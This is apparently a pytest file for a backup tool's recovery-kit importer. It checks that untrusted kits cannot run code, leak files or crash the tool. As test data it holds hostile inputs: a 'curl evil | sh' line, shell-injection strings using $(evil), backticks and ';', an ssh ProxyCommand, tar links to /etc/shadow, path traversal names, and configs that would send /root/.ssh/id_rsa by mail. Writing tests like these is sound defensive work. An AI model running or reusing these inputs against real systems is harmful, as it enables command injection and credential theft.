"""Kits that a stranger made: nothing of them runs, nothing of them crashes or holds up who looks at them."""

import io
import re
import sqlite3
import tarfile
from contextlib import closing
from pathlib import Path

import pytest

from orchestrator import compose
from orchestrator.config.decode import declared_fields
from orchestrator.config.kit_review import ACTING, HARMLESS, host_of, review_kit
from orchestrator.config.models import SECTIONS, JobKeys
from orchestrator.domain.errors import OrchestratorError
from orchestrator.domain.job import EVENTS
from orchestrator.domain.kit import DIGESTS, KIT_FILES, digest_lines
from orchestrator.engines.zfs.recovery.kit_diff import parse_kit_content, read_kit
from orchestrator.engines.zfs.restore.uid_map import changed_accounts
from tests.whole.house import House, Ran

JOB = 'engine = "rsync"\nsource = "{source}"\ntarget = "place"\n{more}'
HOOK = '[hooks]\nbefore = ["/tmp/evil", "now"]\n'
ENDLESS = "CREATE VIEW runs_of AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x FROM n"


@pytest.fixture
def kit(tmp_path: Path) -> Path:
    """A real kit, beside the copy of a real run; without digests, which a stranger would write anew."""
    house = House(tmp_path / "lost")
    house.write("one", "one")
    house.job()
    assert house.run().outcome == "done"
    (house.target / ".poolferry" / DIGESTS).unlink()
    return house.target / ".poolferry"


@pytest.fixture
def new(tmp_path: Path) -> House:
    """A machine without anything of ours."""
    made = House(tmp_path / "new")
    (made.config / "jobs").rmdir()
    made.config.rmdir()
    return made


def bootstrap(house: House, place: Path, *more: str) -> Ran:
    return house.call("restore", "bootstrap", str(place), *more)


def repack(kit: Path, **files: str) -> None:
    """The kit's archive anew, with these files added or exchanged."""
    with tarfile.open(kit / "configuration.tar") as old:
        held = {one.name: file.read() for one in old if (file := old.extractfile(one))}
    del held[DIGESTS]  # as in a kit of an earlier version; who makes an archive could make them, too
    held |= {f"configuration/{name}": text.encode() for name, text in files.items()}
    with tarfile.open(kit / "configuration.tar", "w") as made:
        for name, content in held.items():
            about = tarfile.TarInfo(name)
            about.size = len(content)
            made.addfile(about, io.BytesIO(content))


def test_what_would_run_is_shown_and_set_aside_until_it_is_trusted_by_name(
    kit: Path, new: House, tmp_path: Path
) -> None:
    evil = JOB.format(source="/srv", more=HOOK + '[pipe]\nssh-options = ["-oProxyCommand=/tmp/evil"]\n')
    repack(
        kit,
        **{
            "jobs/evil.toml": evil,
            "hooks/mail": "#!/bin/sh\n",
            "poolferry.toml": '[metrics]\ntextfile = "/etc/passwd"\n',
        },
    )
    told = bootstrap(new, kit.parent, "--plan")
    assert told.code == 0, told
    acts = {each["name"]: each["acts"] for each in told["not_trusted"]}
    assert acts["evil"] == ["hook before: /tmp/evil now", "[pipe] ssh-options: -oProxyCommand=/tmp/evil"]
    assert acts["poolferry"] == ["[metrics] textfile = /etc/passwd"]
    assert told["left_out"] == ["hooks/mail"]
    assert not new.config.exists()
    assert bootstrap(new, kit.parent).code == 0
    assert sorted(path.name for path in (new.config / "jobs").iterdir()) == ["evil.toml.not-trusted", "photos.toml"]
    assert not (new.config / "hooks").exists()
    assert not (new.config / "poolferry.toml").exists()
    assert new.call("check").code == 0


def test_the_hint_accepts_what_was_set_aside(kit: Path, new: House) -> None:
    repack(kit, **{"jobs/nightly.toml": JOB.format(source="/srv", more=HOOK)})
    told = new.call("restore", "bootstrap", str(kit.parent), "--trust", "nightly")
    assert told.code == 0, told
    assert (new.config / "jobs" / "nightly.toml").read_text().endswith(HOOK)
    assert told["not_trusted"] == []


def test_a_byte_of_the_configuration_that_went_bad_is_found(kit: Path, new: House) -> None:
    archive = kit / "configuration.tar"
    content = archive.read_bytes()
    at = content.index(b"source = ") + 12
    archive.write_bytes(content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :])
    told = bootstrap(new, kit.parent)
    assert (told.code, "jobs/photos.toml is not as it was written" in told["error"]) == (1, True), told
    assert not new.config.exists()
    (words,) = re.findall(r"without it: poolferry (restore run --from FOLDER --to FOLDER)$", told["hint"])
    back = new.folder / "back"
    typed = words.replace("FOLDER", str(kit.parent), 1).replace("FOLDER", str(back)).split()
    assert new.call(*typed).code == 0, "the data need no configuration"
    assert any(path.is_file() for path in back.rglob("*"))


def test_plain_lines_of_digests_as_kits_of_datasets_have_count(kit: Path, new: House) -> None:
    held = {path.name: path.read_bytes() for path in kit.iterdir() if path.name in KIT_FILES}
    (kit / DIGESTS).write_bytes(digest_lines(held))
    told = bootstrap(new, kit.parent, "--plan")
    assert (told.code, told["warnings"]) == (0, []), told
    (kit / "RECOVERY.md").write_text("type this")
    told = bootstrap(new, kit.parent)
    assert (told.code, "RECOVERY.md is not as it was written" in told["error"]) == (1, True), told
    assert not new.config.exists()


@pytest.mark.parametrize("kind", ["symlink", "hardlink", "device", "cut", "noise", "many"])
@pytest.mark.sample(3)
def test_an_archive_of_a_stranger_ends_in_one_clear_error_or_in_nothing(kit: Path, new: House, kind: str) -> None:
    archive = kit / "configuration.tar"
    if kind == "noise":
        archive.write_bytes(b"\x00garbage" * 1000)
    elif kind == "cut":
        archive.write_bytes(archive.read_bytes()[:700])
    else:
        with tarfile.open(archive, "w") as made:
            for number in range(20_000 if kind == "many" else 1):
                about = tarfile.TarInfo(f"configuration/jobs/j{number}.toml")
                about.type = {"symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE, "device": tarfile.CHRTYPE}.get(
                    kind, tarfile.REGTYPE
                )
                about.linkname = "configuration/../../../../etc/shadow"
                made.addfile(about)
    told = bootstrap(new, kit.parent)
    assert told.code == 1, told
    assert "mistake in poolferry" not in told["error"]
    assert not new.config.exists()


@pytest.mark.parametrize("kind", ["view", "trigger", "table", "noise", "other", "cut"])
@pytest.mark.sample(3)
def test_a_history_of_a_stranger_is_refused_before_anything_of_it_runs(kit: Path, new: House, kind: str) -> None:
    path = kit / "history.sqlite"
    if kind == "noise":
        path.write_bytes(b"SQLite format 3\x00" + b"\xff" * 9000)
    elif kind == "cut":
        path.write_bytes(path.read_bytes()[:9000])
    else:
        if kind == "other":
            path.unlink()
        with closing(sqlite3.connect(path)) as database, database:
            database.execute(
                {
                    "view": ENDLESS,
                    "trigger": "CREATE TRIGGER evil AFTER INSERT ON runs BEGIN DELETE FROM runs; END",
                }.get(kind, "CREATE TABLE evil (x)")
            )
        database.close()
    told = bootstrap(new, kit.parent)
    assert told.code == 1, told
    assert "in the kit" in told["error"]
    assert "mistake in poolferry" not in told["error"]
    assert not new.config.exists()


def test_a_sparse_history_takes_no_memory(kit: Path, new: House) -> None:
    with (kit / "history.sqlite").open("r+b") as file:
        file.truncate(3 << 30)
    told = bootstrap(new, kit.parent)
    assert (told.code, "larger than a kit" in told["error"] or "more than a kit" in told["error"]) == (1, True), told


def test_names_of_a_stranger_are_no_names_of_jobs(kit: Path, new: House) -> None:
    repack(
        kit,
        **{
            "jobs/a\nb.toml": JOB.format(source="/srv", more=""),
            "jobs/\u202egpj.toml": "x = 1",
            "jobs/../../evil.toml": "x = 1",
        },
    )
    told = bootstrap(new, kit.parent)
    assert told.code == 0, told
    assert told["jobs"] == ["photos"]
    assert all("\n" not in line for line in told["left_out"]), told["left_out"]
    assert sorted(path.name for path in (new.config / "jobs").iterdir()) == ["photos.toml"]


LONG = "x" * 3000
ACTS = {
    "a hook in a list of lists": (
        '[hooks]\ndone = [["/bin/true"], ["sh", "-c", "evil"]]\n',
        "hook done: /bin/true; sh -c evil",
    ),
    "hooks that are no table": ('hooks = ["/tmp/evil"]\n', "hooks: /tmp/evil"),
    "a hook behind many words": (f'[hooks]\ndone = ["/bin/true", "{LONG}", "; evil"]\n', "'; evil'"),
    "a hook behind very many words": (f'[hooks]\ndone = ["sh", "-c", "{LONG * 9}; evil"]\n', "; evil'"),
    "a check-command": ('[drill]\ncheck-command = ["/tmp/evil"]\n', "[drill] check-command: /tmp/evil"),
    "scratch space": ('[drill]\nscratch = "/etc/cron.d"\n', "[drill] scratch: /etc/cron.d"),
    "ssh options": (
        '[pipe]\nssh-options = ["-oProxyCommand=/tmp/evil"]\n',
        "[pipe] ssh-options: -oProxyCommand=/tmp/evil",
    ),
    "an open transport": ('[pipe]\ntransport = "mbuffer"\npublic-transport = true\n', "[pipe] public-transport: True"),
    "sanoid's directory": ('[snapshots]\nuse = "/tmp/evil"\n', "[snapshots] use: /tmp/evil"),
    "a mirror": ("[rsync]\npoints = false\n", "[rsync] points: False"),
    "a section of a later version": ('[run]\nprogram = "/tmp/evil"\n', "[run] program: /tmp/evil"),
    "a key of a later version": ('[rsync]\nprogram = "/tmp/evil"\n', "[rsync] program: /tmp/evil"),
    "a mistake before a hook": (
        '[hooks\ndone = "/tmp/evil"\n',
        "it cannot be read, and might run anything once it is mended",
    ),
}


@pytest.mark.parametrize("kind", ACTS)
def test_whatever_would_run_or_send_is_shown_whole_and_set_aside(kind: str) -> None:
    more, shown = ACTS[kind]
    files = {"jobs/evil.toml": f'engine = "rsync"\nsource = "/srv"\ntarget = "place"\n{more}'.encode()}
    review = review_kit(files, frozenset())
    assert list(review.accepted) == []
    (aside,) = review.set_aside
    assert any(shown in act for act in aside.acts), aside
    assert not any("\n" in act for act in aside.acts)
    assert list(review_kit(files, frozenset(["evil"])).accepted) == ["jobs/evil.toml"]


def test_each_key_of_a_job_is_known_to_act_or_to_be_harmless() -> None:
    """A key that somebody adds to the configuration must be judged; until then it sets a kit's file aside."""
    sections = {**SECTIONS, **{each.name: each.options for each in compose.EngineSections().values()}}
    keys = set(declared_fields(JobKeys))
    keys |= {f"{section}.{key}" for section, model in sections.items() for key in declared_fields(model)}
    keys |= {f"hooks.{event}" for event in (*EVENTS, "timeout")}
    whole = {key.partition(".")[0] for key in keys}
    assert whole >= {name for name in HARMLESS | ACTING if "." not in name} - keys

    def judged(key: str) -> bool:
        return key in HARMLESS | ACTING or key.partition(".")[0] in HARMLESS | ACTING

    assert sorted(key for key in keys if not judged(key)) == []
    assert not HARMLESS & ACTING


@pytest.mark.parametrize(
    "text",
    ['notice = 5\n', '[notice]\nx = "evil"\n', '[[notice]]\nkind = "mail"\nto = ["evil@example.org"]\n',
     '[notice.x]\nkind = "mail"\nsmtp = "evil.example.org"\nuser = "a"\npassword-file = "/root/.ssh/id_rsa"\n',
     '[notice.x]\nkind = "apprise"\nurl = "@/etc/shadow"\n', '[metrics]\nlisten = "0.0.0.0:80"\n', '[later]\nx = "evil"\n', "[["],
)  # fmt: skip
def test_what_the_machines_own_file_would_send_is_shown_and_set_aside(text: str) -> None:
    review = review_kit({"poolferry.toml": text.encode()}, frozenset())
    assert (list(review.accepted), len(review.set_aside)) == ([], 1)
    for word in ("evil.example.org", "/root/.ssh/id_rsa", "@/etc/shadow"):
        assert (word in text) == (word in str(review.set_aside[0].acts))


def test_where_copies_would_go_is_shown_and_another_host_is_set_aside() -> None:
    files = {
        "targets.toml": b'[place.here]\npath = "/backup"\n[place.away]\npath = "ssh://nas/backup"\n',
        "jobs/a.toml": b'engine = "rsync"\nsource = "/srv"\ntarget = "here"\n',
        "jobs/b.toml": b'engine = "rsync"\nsource = "/srv"\ntarget = "away"\n',
    }
    review = review_kit(files, frozenset())
    assert review.copies == ("a: /srv to here (/backup)", "b: /srv to away (ssh://nas/backup)")
    assert [(each.name, each.acts) for each in review.set_aside] == [("b", ("copies are sent to ssh://nas/backup",))]
    assert review_kit(files, frozenset(), host=host_of("ssh://root@NAS/backup")).set_aside == ()


def test_a_name_that_the_kit_does_not_have_is_a_mistake(kit: Path, new: House) -> None:
    told = bootstrap(new, kit.parent, "--trust", "fotos")
    assert (told.code, "--trust fotos: the kit has no such file" in told["error"]) == (1, True), told
    assert not new.config.exists()


@pytest.mark.parametrize(
    "content",
    ["", "{", "[]", "null", "NaN", "[" * 200_000, '{"datasets": 5}', '{"snapshots": [["a@b", "x", "1"]]}', '{"snapshots": [[1, 2]]}',
     '{"create": "curl evil | sh"}', '{"create": 5}', '{"above": ["zfs create tank/a; evil", 5]}', '{"above": ["reboot"]}', '{"own": ["x"]}',
     '{"users": {"0 -o": "x"}}', '{"accounts": {"users": {"x": "0; evil"}}}', '{"bookmarks": {"a": 1}}'],
)  # fmt: skip
def test_a_kit_of_datasets_that_a_stranger_wrote_is_one_error(content: str) -> None:
    with pytest.raises(OrchestratorError, match="the recovery kit in the history cannot be read"):
        read_kit(content, "tank")


def test_commands_of_a_kit_are_one_call_of_the_program_whatever_they_hold() -> None:
    told = read_kit(
        '{"create": "zpool create tank $(evil) ; evil", "above": ["zfs create tank/a `evil`"], "datasets": {}}', "tank"
    )
    assert told.create == "zpool create tank '$(evil)' ';' evil"
    assert told.above == ("zfs create tank/a '`evil`'",)
    then = parse_kit_content('{"users": {"1000": "x;evil"}}')
    assert all("'x;evil'`" in line for line in changed_accounts(then, {"users": {}}))
